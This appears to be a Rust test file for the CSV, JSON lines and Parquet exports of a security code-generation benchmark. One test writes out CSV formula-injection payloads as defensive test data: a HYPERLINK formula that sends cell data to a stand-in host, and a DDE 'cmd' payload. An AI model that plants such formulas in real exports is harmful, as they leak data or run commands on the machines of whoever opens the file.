//! JSON lines, CSV and Parquet: the same table, as documented.

use assay_core::benchmark::sec_code_bench_v2;
use std::fs::{self, File};

use parquet::basic::Type as Physical;
use parquet::file::reader::{FileReader as _, SerializedFileReader};
use parquet::record::Field;
use serde_json::Value;

use super::sample_run::{HOSTILE_SUBJECT, hostile_text};
use super::{Door, assert_inert, door, door_with_runs, export, exported_text};

/// The documented columns of a table, each with its type.
fn documented(own: &str, with_texts: bool) -> Vec<(String, String)> {
    let page = fs::read_to_string(door::repository().join("docs/exports.md")).expect("a page");
    let mut columns = Vec::new();
    let mut wanted = vec!["Columns of both", own, "Further columns of both"];
    wanted.extend(with_texts.then_some("Texts"));
    for title in wanted {
        let section = page.split("\n### ").find(|section| section.starts_with(title));
        let section = section.unwrap_or_else(|| panic!("no section {title}"));
        for line in section.lines().filter(|line| line.starts_with("| `")) {
            let cells: Vec<&str> = line.split('|').map(str::trim).collect();
            let names = cells[1].split(", ").map(|name| name.trim_matches('`').to_owned());
            columns.extend(names.map(|name| (name, cells[2].to_owned())));
        }
    }
    columns
}

fn json_rows(text: &str) -> Vec<Value> {
    text.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect()
}

/// The rows of a Parquet file as JSON, and its columns with their types.
fn parquet_rows(path: &std::path::Path) -> (Vec<(String, Physical)>, Vec<Value>) {
    let reader = SerializedFileReader::new(File::open(path).expect("a file")).expect("Parquet");
    let schema = reader.metadata().file_metadata().schema_descr();
    let columns = schema
        .columns()
        .iter()
        .map(|column| (column.name().to_owned(), column.physical_type()))
        .collect();
    let rows = reader.get_row_iter(None).expect("rows").map(|row| {
        let row = row.expect("a row");
        let members = row.get_column_iter().map(|(name, field)| {
            let value = match field {
                Field::Null => Value::Null,
                Field::Bool(value) => (*value).into(),
                Field::Long(value) => (*value).into(),
                Field::Double(value) => (*value).into(),
                Field::Str(value) => value.as_str().into(),
                other => panic!("{name} is {other:?}"),
            };
            (name.clone(), value)
        });
        Value::Object(members.collect())
    });
    (columns, rows.collect())
}

fn csv_rows(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let names = reader.headers().expect("a header").iter().map(str::to_owned).collect();
    let rows = reader
        .records()
        .map(|row| row.expect("as many fields as columns").iter().map(str::to_owned).collect());
    (names, rows.collect())
}

#[test]
fn columns_and_their_types_are_those_of_the_documentation_in_its_order() {
    let door = door_with_runs();
    for (rows, section, schema) in [
        ("attempts", "Columns of attempts", "assay.attempts/1"),
        ("turns", "Columns of turns", "assay.turns/1"),
    ] {
        let names = |with_texts: bool| -> Vec<String> {
            documented(section, with_texts).into_iter().map(|(name, _)| name).collect()
        };
        let csv = exported_text(&door, "ordinary.assay", "csv", &["--rows", rows]);
        assert_eq!(csv_rows(&csv).0, names(false), "{rows}");

        let texts = ["--rows", rows, "--with-texts"];
        let (columns, values) = parquet_rows(&export(&door, "ordinary.assay", "parquet", &texts));
        let expect: Vec<_> = documented(section, true)
            .into_iter()
            .map(|(name, kind)| {
                let physical = match kind.as_str() {
                    "text" => Physical::BYTE_ARRAY,
                    "count" => Physical::INT64,
                    "amount" => Physical::DOUBLE,
                    "truth" => Physical::BOOLEAN,
                    other => panic!("{name} is of no type: {other}"),
                };
                (name, physical)
            })
            .collect();
        assert_eq!(columns, expect, "{rows}");

        let json = exported_text(&door, "ordinary.assay", "jsonl", &texts);
        assert!(json.starts_with(&format!("{{\"schema\":\"{schema}\",\"run_id\":")), "{json}");
        let places: Vec<usize> = names(true)
            .iter()
            .map(|name| json.find(&format!("\"{name}\":")).expect("a member"))
            .collect();
        assert!(places.is_sorted(), "{places:?}");
        assert_eq!(json_rows(&json), values, "{rows}");
    }
}

#[test]
fn the_rows_say_what_the_run_says() {
    let door = door_with_runs();
    let rows = json_rows(&exported_text(&door, "ordinary.assay", "jsonl", &[]));
    assert_eq!(rows.len(), 60);
    let of = |subject: &str, verdict: Option<&str>| {
        let has = |row: &&Value| row["subject"] == subject && row["verdict"].as_str() == verdict;
        rows.iter().filter(has).count()
    };
    // The same figures as in the scorecard of this run.
    assert_eq!(of("reference", Some("secure")), 12);
    assert_eq!(of("acme/large-2", Some("insecure")), 7);
    assert_eq!(of("acme/small-2", Some("build-failed")), 4);
    assert_eq!(of("acme/small-2", None), 1);

    let errored = rows.iter().find(|row| row["verdict"].is_null()).expect("one errored");
    for (name, expect) in [
        ("error_class", "rate-limit".into()),
        ("error", "the provider answered 429 nine times in 10 minutes".into()),
        ("turns", 0.into()),
        ("secure", Value::Null),
        ("functional", Value::Null),
        ("input_tokens", Value::Null),
        ("asked_ms", Value::Null),
        ("finish", Value::Null),
    ] {
        assert_eq!(errored[name], expect, "{name}");
    }
    let mended = rows.iter().find(|row| row["turns"] == 2 && row["verdict"] == "secure");
    let mended = mended.expect("a repaired attempt");
    for (name, expect) in [
        ("first_verdict", "insecure".into()),
        ("functional", true.into()),
        ("secure", true.into()),
        ("input_tokens", 824.into()),
        ("output_tokens", 2_560.into()),
        ("reasoning_tokens", 600.into()),
        ("cost", Value::Null),
        ("requests", 2.into()),
        ("from_cache", false.into()),
        ("asked_ms", 12_840.into()),
        ("validated_ms", 2_600.into()),
        ("functional_tests", 3.into()),
        ("security_passed", 2.into()),
        ("first_failure", Value::Null),
        ("shared_validation", false.into()),
    ] {
        assert_eq!(mended[name], expect, "{name}");
    }
    let turns = json_rows(&exported_text(&door, "ordinary.assay", "jsonl", &["--rows", "turns"]));
    let sum = rows.iter().map(|row| row["turns"].as_u64().expect("a count")).sum::<u64>();
    assert_eq!(turns.len() as u64, sum);
    assert!(turns.iter().any(|turn| turn["turn"] == 2));
}

#[test]
fn csv_has_the_values_of_the_other_tables() {
    let door = door_with_runs();
    let (names, rows) = csv_rows(&exported_text(&door, "ordinary.assay", "csv", &[]));
    let others = json_rows(&exported_text(&door, "ordinary.assay", "jsonl", &[]));
    assert_eq!(rows.len(), others.len());
    for (row, other) in rows.iter().zip(&others) {
        for (name, cell) in names.iter().zip(row) {
            let expect = match &other[name] {
                Value::Null => String::new(),
                Value::String(text) => text.clone(),
                value => value.to_string(),
            };
            assert_eq!(*cell, expect, "{name}");
        }
    }
}

#[test]
fn hostile_texts_are_kept_as_they_are_by_json_lines_and_parquet() {
    let door = door_with_runs();
    let texts = ["--rows", "turns", "--with-texts"];
    let json = exported_text(&door, "hostile.assay", "jsonl", &texts);
    assert_inert(&json);
    let (_, values) = parquet_rows(&export(&door, "hostile.assay", "parquet", &texts));
    let rows = json_rows(&json);
    assert_eq!(rows, values);
    assert_eq!(rows.len(), 4);
    for row in &rows {
        assert_eq!(row["subject"], HOSTILE_SUBJECT);
        for name in ["run_id", "run_started_at", "corpus", "case_title", "prompt", "answer"] {
            assert_eq!(row[name], hostile_text(), "{name}");
        }
        let artifact: Value =
            serde_json::from_str(row["artifact"].as_str().expect("text")).expect("JSON");
        assert_eq!(artifact["src/frame.c"], hostile_text());
        let logs: Value = serde_json::from_str(row["logs"].as_str().expect("text")).expect("JSON");
        assert_eq!(logs[1]["text"], hostile_text().repeat(20));
    }
}

#[test]
fn no_cell_of_a_csv_is_a_formula_or_leaves_its_line() {
    let door = Door::open();
    let formula = "=HYPERLINK(\"http://x/?\"&A1)\r\n;@SUM(1)";
    let subject = "-2+3+cmd|' /C calc'!A0";
    let run = door.path("formulas.assay");
    let mut cases = vec![super::sample_run::case(
        "+case",
        formula,
        assay_core::Language::C,
        assay_core::Severity::High,
    )];
    cases[0].cwe = vec!["@cwe".to_owned(), "=1".to_owned()];
    let info = super::sample_run::info("=1+1", &[subject], cases, 1);
    let mut store = assay::store::Store::create(&run, &info).expect("a new store");
    let turn = super::sample_run::turn(assay_core::Verdict::Nonfunctional, "x", formula);
    let scenario = sec_code_bench_v2::GEN;
    let attempt = super::sample_run::attempt(subject, "+case", scenario, 1, vec![turn]);
    store.record(&attempt).expect("recorded");
    drop(store);
    super::sample_run::hostile(&door.path("hostile.assay"));

    for (name, expect_rows) in [("formulas.assay", 1), ("hostile.assay", 2)] {
        let text = exported_text(&door, name, "csv", &[]);
        assert_inert(&text);
        assert_eq!(text.lines().count(), expect_rows + 1);
        let (_, rows) = csv_rows(&text);
        assert_eq!(rows.len(), expect_rows);
        for cell in rows.iter().flatten() {
            assert!(!cell.trim_start().starts_with(['=', '+', '-', '@']), "{cell}");
            assert!(cell.chars().count() < 32_767);
        }
        // A reader whose separator is another finds no formula either.
        for separator in [';', '|', '\t'] {
            for cell in text.split(separator) {
                let cell = cell.trim_start_matches([' ', '"']);
                assert!(!cell.starts_with(['=', '+', '@']), "{separator}: {cell}");
            }
        }
    }
}
